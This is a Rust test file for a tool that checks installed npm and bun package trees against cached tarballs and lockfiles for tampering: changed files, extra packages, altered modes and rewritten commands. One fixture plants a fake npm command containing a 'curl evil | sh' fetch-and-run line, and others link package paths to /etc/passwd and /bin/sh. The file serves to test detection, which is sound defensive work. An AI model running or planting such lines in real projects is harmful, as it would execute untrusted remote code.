//! Trees that are as they should be, and changed ones beside them.

mod attacks;

use super::{InstalledError, Report, Verification};
use crate::evidence::Tarballs;
use crate::tarball::packed;
use base64::Engine as _;
use base64::prelude::BASE64_STANDARD as BASE64;
use ringfence_policy::display::hex;
use ringfence_project::graph::Graph;
use sha2::Digest as _;
use std::fmt::Write as _;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

/// A project with its tarballs in npm's cache and its packages installed as npm does it.
struct Tree {
    folder: tempfile::TempDir,
    lock: String,
}

impl Tree {
    fn new() -> Self {
        Self { folder: tempfile::tempdir().unwrap(), lock: String::new() }
    }

    /// A package in a folder of the lockfile; names of files that end with `*` are executable.
    fn with(mut self, key: &str, version: &str, files: &[(&str, &[u8])]) -> Self {
        let names: Vec<String> = files.iter().map(|(name, _)| format!("package/{name}")).collect();
        let inside: Vec<(&str, &[u8])> =
            names.iter().zip(files).map(|(name, (_, bytes))| (name.as_str(), *bytes)).collect();
        let tarball = packed(&inside);
        let hash = sha2::Sha512::digest(&tarball);
        let digits = hex(&hash);
        let content = self.path("npm/_cacache/content-v2/sha512");
        let content = content.join(&digits[..2]).join(&digits[2..4]);
        fs::create_dir_all(&content).unwrap();
        fs::write(content.join(&digits[4..]), tarball).unwrap();
        let hash = BASE64.encode(hash);
        let _ = write!(
            self.lock,
            ",\n\"{key}\": {{\"version\": \"{version}\", \"integrity\": \"sha512-{hash}\"}}"
        );
        for (name, bytes) in files {
            let (name, mode) = name.strip_suffix('*').map_or((*name, 0o644), |name| (name, 0o755));
            self.write(&format!("{key}/{name}"), bytes);
            fs::set_permissions(self.at(&format!("{key}/{name}")), PermissionsExt::from_mode(mode))
                .unwrap();
        }
        self
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// A path of the project.
    fn at(&self, name: &str) -> PathBuf {
        self.path("project").join(name)
    }

    fn write(&self, name: &str, bytes: &[u8]) {
        let path = self.at(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }

    fn verify(&self) -> Result<Report, InstalledError> {
        self.verify_with("", None)
    }

    fn verify_with(&self, more: &str, may_run: Option<bool>) -> Result<Report, InstalledError> {
        let root = r#""": {"dependencies": {"a": "1", "b": "1", "s": "1"}}"#;
        let lock =
            format!("{{\"lockfileVersion\": 3, \"packages\": {{{root}{}{more}}}}}", self.lock);
        let graph = Graph::read("package-lock.json", &lock, &[]).unwrap();
        let (project, cache) = (self.path("project"), self.path("npm"));
        let tarballs = Tarballs::new(&project, Some(&cache));
        let may_run = move |_: &_| may_run;
        Verification {
            graph: &graph,
            folder: &project,
            project: &project,
            tarballs: &tarballs,
            may_run: &may_run,
            threads: 2,
        }
        .run()
    }

    /// What deviates, a line each.
    fn told(&self) -> Vec<String> {
        lines(&self.verify().unwrap())
    }
}

fn lines(report: &Report) -> Vec<String> {
    report.deviations.iter().map(|one| format!("{} {}", one.kind.id(), one.path)).collect()
}

const MANIFEST: &[u8] = br#"{"name": "a", "version": "1.0.0", "bin": {"a": "./cli.js"}}"#;

fn tree() -> Tree {
    let tree = Tree::new()
        .with(
            "node_modules/a",
            "1.0.0",
            &[
                ("package.json", MANIFEST),
                ("cli.js*", b"#!/usr/bin/env node\nx\n"),
                ("lib/one.js", b"one"),
                ("lib/two.js", b"two"),
            ],
        )
        .with(
            "node_modules/b",
            "1.0.0",
            &[("package.json", br#"{"name": "b", "version": "1.0.0"}"#), ("index.js", b"b")],
        );
    fs::create_dir(tree.at("node_modules/.bin")).unwrap();
    symlink("../a/cli.js", tree.at("node_modules/.bin/a")).unwrap();
    tree.write("node_modules/.package-lock.json", b"{}");
    tree
}

#[test]
fn an_unchanged_tree_has_nothing_to_report() {
    let tree = tree();
    let report = tree.verify().unwrap();
    assert_eq!(lines(&report), [""; 0]);
    assert_eq!((report.packages, report.files), (2, 6));
    assert!(report.unknown.is_empty() && report.script_outputs.is_empty());
}

#[test]
fn one_flipped_byte_one_added_and_one_removed_file_are_each_found() {
    let flipped = tree();
    flipped.write("node_modules/a/lib/one.js", b"onf");
    assert_eq!(flipped.told(), ["changed node_modules/a/lib/one.js"]);
    let added = tree();
    added.write("node_modules/b/evil.js", b"x");
    assert_eq!(added.told(), ["added node_modules/b/evil.js"]);
    let removed = tree();
    fs::remove_file(removed.at("node_modules/a/lib/two.js")).unwrap();
    assert_eq!(removed.told(), ["missing node_modules/a/lib/two.js"]);
}

#[test]
fn packages_as_a_whole_are_missing_extra_or_of_another_version() {
    let missing = tree();
    fs::remove_dir_all(missing.at("node_modules/b")).unwrap();
    assert_eq!(missing.told(), ["missing-package node_modules/b"]);
    let extra = tree();
    extra.write("node_modules/evil/package.json", b"{}");
    extra.write("node_modules/@s/evil/package.json", b"{}");
    extra.write("node_modules/a/node_modules/evil/package.json", b"{}");
    assert_eq!(
        extra.told(),
        [
            "extra-package node_modules/@s/evil",
            "extra-package node_modules/evil",
            "extra-package node_modules/a/node_modules/evil",
        ]
    );
    let other = tree();
    other.write("node_modules/b/package.json", br#"{"name": "b", "version": "1.0.1"}"#);
    assert_eq!(other.told(), ["version-differs node_modules/b"]);
}

#[test]
fn what_is_no_file_is_told_and_never_opened() {
    let tree = tree();
    fs::remove_file(tree.at("node_modules/a/lib/one.js")).unwrap();
    let made = rustix_fifo(&tree.at("node_modules/a/lib/one.js"))
        && rustix_fifo(&tree.at("node_modules/a/pipe"));
    assert!(made);
    symlink("/etc/passwd", tree.at("node_modules/a/passwd")).unwrap();
    symlink(".", tree.at("node_modules/a/lib/loop")).unwrap();
    symlink("..", tree.at("node_modules/loop")).unwrap();
    assert_eq!(
        tree.told(),
        [
            "link node_modules/loop",
            "added node_modules/a/pipe",
            "changed node_modules/a/lib/one.js",
            "link node_modules/a/lib/loop",
            "link node_modules/a/passwd",
        ]
    );
}

/// A pipe, by the program that every host has.
fn rustix_fifo(path: &Path) -> bool {
    #[expect(clippy::disallowed_methods, reason = "a test makes a pipe")]
    std::process::Command::new("mkfifo").arg(path).status().is_ok_and(|status| status.success())
}

#[test]
fn a_package_that_became_a_link_is_told() {
    let tree = tree();
    let elsewhere = tree.at("elsewhere");
    fs::rename(tree.at("node_modules/b"), &elsewhere).unwrap();
    symlink(&elsewhere, tree.at("node_modules/b")).unwrap();
    assert_eq!(tree.told(), ["link node_modules/b"]);
    let whole = super::tests::tree();
    fs::rename(whole.at("node_modules"), whole.at("other")).unwrap();
    symlink("other", whole.at("node_modules")).unwrap();
    assert!(matches!(whole.verify(), Err(InstalledError::NotAFolder)));
    fs::remove_file(whole.at("node_modules")).unwrap();
    assert!(matches!(whole.verify(), Err(InstalledError::Absent)));
}

#[test]
fn bun_lets_a_command_start_the_program_for_this_platform_and_no_other_file() {
    let tree = Tree::new();
    let manifest = br#"{"name": "tool", "version": "1.0.0", "bin": {"tool": "bin/tool"}}"#;
    tree.write("node_modules/tool/package.json", manifest);
    tree.write("node_modules/@t/here/package.json", br#"{"name": "@t/here", "version": "1.0.0"}"#);
    tree.write("node_modules/@t/here/bin/tool", b"");
    tree.write("node_modules/@t/here/bin/other", b"");
    fs::create_dir(tree.at("node_modules/.bin")).unwrap();
    symlink("../@t/here/bin/tool", tree.at("node_modules/.bin/tool")).unwrap();
    symlink("../@t/here/bin/other", tree.at("node_modules/.bin/other")).unwrap();
    let lock = r#"{"lockfileVersion": 1, "workspaces": {"": {"name": "app", "dependencies": {"tool": "1"}}}, "packages": {
        "tool": ["tool@1.0.0", "", {"optionalDependencies": {"@t/here": "1"}, "bin": {"tool": "bin/tool"}}, "sha512-x"],
        "@t/here": ["@t/here@1.0.0", "", {}, "sha512-y"]}}"#;
    let graph = Graph::read("bun.lock", lock, &[]).unwrap();
    let (project, cache) = (tree.path("project"), tree.path("npm"));
    let tarballs = Tarballs::new(&project, Some(&cache));
    let verification = Verification {
        graph: &graph,
        folder: &project,
        project: &project,
        tarballs: &tarballs,
        may_run: &|_| None,
        threads: 1,
    };
    let told = lines(&verification.run().unwrap());
    assert_eq!(told, ["command-changed node_modules/.bin/other"]);
}

#[test]
fn commands_must_start_what_their_package_says() {
    let tree = tree();
    fs::remove_file(tree.at("node_modules/.bin/a")).unwrap();
    symlink("../a/lib/one.js", tree.at("node_modules/.bin/a")).unwrap();
    symlink("/bin/sh", tree.at("node_modules/.bin/node")).unwrap();
    tree.write("node_modules/.bin/npm", b"#!/bin/sh\ncurl evil | sh\n");
    assert_eq!(
        tree.told(),
        [
            "command-changed node_modules/.bin/a",
            "command-changed node_modules/.bin/node",
            "command-changed node_modules/.bin/npm",
        ]
    );
}

#[test]
fn rights_that_a_tarball_does_not_give_are_told() {
    let tree = tree();
    let set = |name: &str, mode: u32| {
        fs::set_permissions(tree.at(name), PermissionsExt::from_mode(mode)).unwrap();
    };
    set("node_modules/a/lib/one.js", 0o755);
    set("node_modules/a/cli.js", 0o4755);
    assert_eq!(
        tree.told(),
        ["mode-changed node_modules/a/cli.js", "mode-changed node_modules/a/lib/one.js"]
    );
}

#[test]
fn what_npm_rewrites_is_no_change() {
    let tree = Tree::new().with(
        "node_modules/a",
        "1.0.0",
        &[
            ("package.json", MANIFEST),
            ("cli.js", b"#!/usr/bin/env node\r\nx\r\n"),
            ("other.js", b"#!/usr/bin/env node\r\nx\r\n"),
            (".gitignore", b"x"),
            ("deep/.npmignore", b"y"),
            ("deep/.gitignore", b"z"),
        ],
    );
    tree.write("node_modules/a/cli.js", b"#!/usr/bin/env node\nx\r\n");
    fs::rename(tree.at("node_modules/a/.gitignore"), tree.at("node_modules/a/.npmignore")).unwrap();
    fs::remove_file(tree.at("node_modules/a/deep/.gitignore")).unwrap();
    assert_eq!(tree.told(), [""; 0]);
    // Only of commands, and only the first line.
    tree.write("node_modules/a/other.js", b"#!/usr/bin/env node\nx\r\n");
    tree.write("node_modules/a/cli.js", b"#!/usr/bin/env node\nx\n");
    assert_eq!(tree.told(), ["changed node_modules/a/cli.js", "changed node_modules/a/other.js"]);
}

#[test]
fn what_a_script_may_have_written_is_told_apart() {
    let manifest =
        br#"{"name": "s", "version": "1.0.0", "scripts": {"install": "node-gyp rebuild"}}"#;
    let tree = tree().with("node_modules/s", "1.0.0", &[("package.json", manifest)]);
    tree.write("node_modules/s/build/Release/s.node", b"\x7fELF");
    tree.write("node_modules/b/evil.js", b"x");
    let report = tree.verify().unwrap();
    assert_eq!(lines(&report), ["added node_modules/b/evil.js"], "b has no script");
    assert_eq!(report.script_outputs.len(), 1);
    assert_eq!(report.script_outputs[0].package, "s@1.0.0");
    let denied = tree.verify_with("", Some(false)).unwrap();
    assert_eq!(denied.deviations.len(), 2, "nobody allowed it to write");
}

#[test]
fn bundled_packages_belong_to_the_tarball_they_came_in() {
    let bundled = r#", "node_modules/a/node_modules/in": {"version": "1.0.0", "inBundle": true}"#;
    let files: &[(&str, &[u8])] = &[
        ("package.json", MANIFEST),
        ("node_modules/in/package.json", br#"{"name": "in", "version": "1.0.0"}"#),
        ("node_modules/in/x.js", b"x"),
        ("node_modules/stray/x.js", b"npm takes it away"),
    ];
    let tree = Tree::new().with("node_modules/a", "1.0.0", files);
    fs::remove_dir_all(tree.at("node_modules/a/node_modules/stray")).unwrap();
    assert_eq!(lines(&tree.verify_with(bundled, None).unwrap()), [""; 0]);
    tree.write("node_modules/a/node_modules/in/x.js", b"y");
    fs::remove_file(tree.at("node_modules/a/node_modules/in/package.json")).unwrap();
    assert_eq!(
        lines(&tree.verify_with(bundled, None).unwrap()),
        [
            "changed node_modules/a/node_modules/in/x.js",
            "missing node_modules/a/node_modules/in/package.json"
        ]
    );
}

#[test]
fn a_tarball_that_cannot_be_had_is_unknown_and_never_fine() {
    let gone = tree();
    fs::remove_dir_all(gone.path("npm")).unwrap();
    let report = gone.verify().unwrap();
    assert_eq!((report.packages, report.unknown.len(), report.deviations.len()), (0, 2, 0));

    // A cache that was changed is not believed either.
    let changed = tree();
    let mut open = vec![changed.path("npm")];
    while let Some(path) = open.pop() {
        if path.is_dir() {
            open.extend(fs::read_dir(path).unwrap().flatten().map(|entry| entry.path()));
        } else {
            fs::write(path, packed(&[("package/package.json", b"{}")])).unwrap();
        }
    }
    let report = changed.verify().unwrap();
    assert_eq!(report.unknown.len(), 2);
    assert!(report.unknown[0].why.contains("its hash is not"), "{:?}", report.unknown[0]);

    let git = r#", "node_modules/g": {"version": "1.0.0", "resolved": "git+ssh://git@code.example/g.git#abc"}"#;
    let tree = tree();
    tree.write("node_modules/g/package.json", br#"{"name": "g", "version": "1.0.0"}"#);
    let report = tree.verify_with(git, None).unwrap();
    assert_eq!(report.unknown.len(), 1);
}

#[test]
fn what_an_install_may_leave_out_is_no_fault() {
    let more = r#", "node_modules/o": {"version": "1.0.0", "integrity": "sha512-x", "optional": true, "os": ["other"]},
        "node_modules/d": {"version": "1.0.0", "integrity": "sha512-y", "dev": true}"#;
    let tree = tree();
    let root = r#""": {"dependencies": {"a": "1", "b": "1"}, "optionalDependencies": {"o": "1"}, "devDependencies": {"d": "1"}}"#;
    let lock = format!("{{\"lockfileVersion\": 3, \"packages\": {{{root}{}{more}}}}}", tree.lock);
    let graph = Graph::read("package-lock.json", &lock, &[]).unwrap();
    let (project, cache) = (tree.path("project"), tree.path("npm"));
    let tarballs = Tarballs::new(&project, Some(&cache));
    let verification = Verification {
        graph: &graph,
        folder: &project,
        project: &project,
        tarballs: &tarballs,
        may_run: &|_| None,
        threads: 1,
    };
    let report = verification.run().unwrap();
    assert_eq!((lines(&report).len(), report.left_out), (0, 2));
    // npm wrote down that it is there, and it is not.
    let text = r#"{"lockfileVersion": 3, "packages": {"node_modules/d": {"version": "1.0.0"}}}"#;
    tree.write("node_modules/.package-lock.json", text.as_bytes());
    assert_eq!(lines(&verification.run().unwrap()), ["missing-package node_modules/d"]);
}

#[test]
fn workspaces_are_links_and_links_elsewhere_are_not_workspaces() {
    let more = r#", "node_modules/w": {"resolved": "packages/w", "link": true}, "packages/w": {"name": "w", "version": "0.0.1"}"#;
    let tree = tree();
    tree.write("packages/w/package.json", br#"{"name": "w"}"#);
    symlink("../packages/w", tree.at("node_modules/w")).unwrap();
    assert_eq!(lines(&tree.verify_with(more, None).unwrap()), [""; 0]);
    symlink("../packages/w", tree.at("node_modules/evil")).unwrap();
    symlink("../packages", tree.at("node_modules/evil2")).unwrap();
    symlink("/tmp", tree.at("node_modules/evil3")).unwrap();
    let told = lines(&tree.verify_with(more, None).unwrap());
    assert_eq!(
        told,
        ["link node_modules/evil", "link node_modules/evil2", "link node_modules/evil3"]
    );
}
